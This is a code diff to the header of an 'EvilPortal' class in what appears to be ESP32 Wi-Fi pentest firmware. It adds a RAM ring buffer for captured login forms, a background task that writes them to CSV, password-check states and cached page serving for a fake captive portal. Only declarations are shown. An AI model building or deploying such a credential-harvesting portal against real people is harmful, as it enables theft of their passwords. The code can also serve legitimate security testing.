@@ -5,6 +5,23 @@
 #include <ESPAsyncWebServer.h>
 #include <globals.h>
 
+#define EVIL_CREDS_RING 32        // captured forms kept in RAM for the screen and /creds
+#define EVIL_CREDS_LEN 256        // bytes kept of each form, longer ones are cut
+#define EVIL_CREDS_SYNC_MS 1000   // captured forms reach the storage at most this late
+#define EVIL_PAGE_CACHE_MAX 32768 // custom pages up to this size are kept in RAM when there is no PSRAM
+
+enum EvilCredCheck : uint8_t {
+    EvilCred_Unchecked,
+    EvilCred_Invalid,
+    EvilCred_Valid,
+};
+
+struct EvilCred {
+    char fields[EVIL_CREDS_LEN]; // "key: value" of each form field, one per line
+    EvilCredCheck check;
+    bool apFile; // saved in <apName>_creds.csv instead of the output file
+};
+
 class EvilPortal {
     class CaptiveRequestHandler : public AsyncWebHandler {
     public:
@@ -47,17 +64,29 @@ private:
 
     String outputFile = "default_creds.csv";
 
-    String htmlPage;
+    // Page served to the clients, from flash (gzip) or read once from the custom file
+    const uint8_t *page = nullptr;
+    size_t pageLen = 0;
+    bool pageGzip = false;
+    uint8_t *customPage = nullptr;
+    String pageEtag;
+    String loadEtag;
     String htmlFileName;
-    bool isDefaultHtml = true;
     FS *fsHtmlFile;
 
-    String lastCred;
     int totalCapturedCredentials = 0;
     int previousTotalCapturedCredentials = -1;
-    String capturedCredentialsHtml = "";
     bool verifyPass = false;
 
+    // Forms are pushed by the web handlers and appended to the CSV by the writer task
+    EvilCred *creds = nullptr;
+    uint32_t credsHead = 0; // forms pushed
+    uint32_t credsTail = 0; // forms written
+    uint32_t credsDropped = 0;
+    portMUX_TYPE credsMux = portMUX_INITIALIZER_UNLOCKED;
+    TaskHandle_t credsTask = NULL;
+    volatile bool credsTaskStop = false;
+
     void portalController(AsyncWebServerRequest *request);
     void credsController(AsyncWebServerRequest *request);
 
@@ -69,8 +98,16 @@ private:
     void loadCustomHtml(void);
     void loadDefaultHtml(void);
     void loadDefaultHtml_one(void);
-    String wifiLoadPage(void);
-    void saveToCSV(const String &csvLine, bool IsAPname = false);
+    void preparePages(void);
+    void sendPage(
+        AsyncWebServerRequest *request, const uint8_t *data, size_t len, bool gzip, const String &etag
+    );
+    void startCredsWriter(void);
+    void stopCredsWriter(void);
+    void pushCred(const String &fields, EvilCredCheck check, bool apFile);
+    bool credAt(uint32_t index, EvilCred &cred);
+    void writeCreds(void);
+    static void credsWriterTask(void *param);
     void drawScreen(void);
 
     String getHtmlTemplate(String body);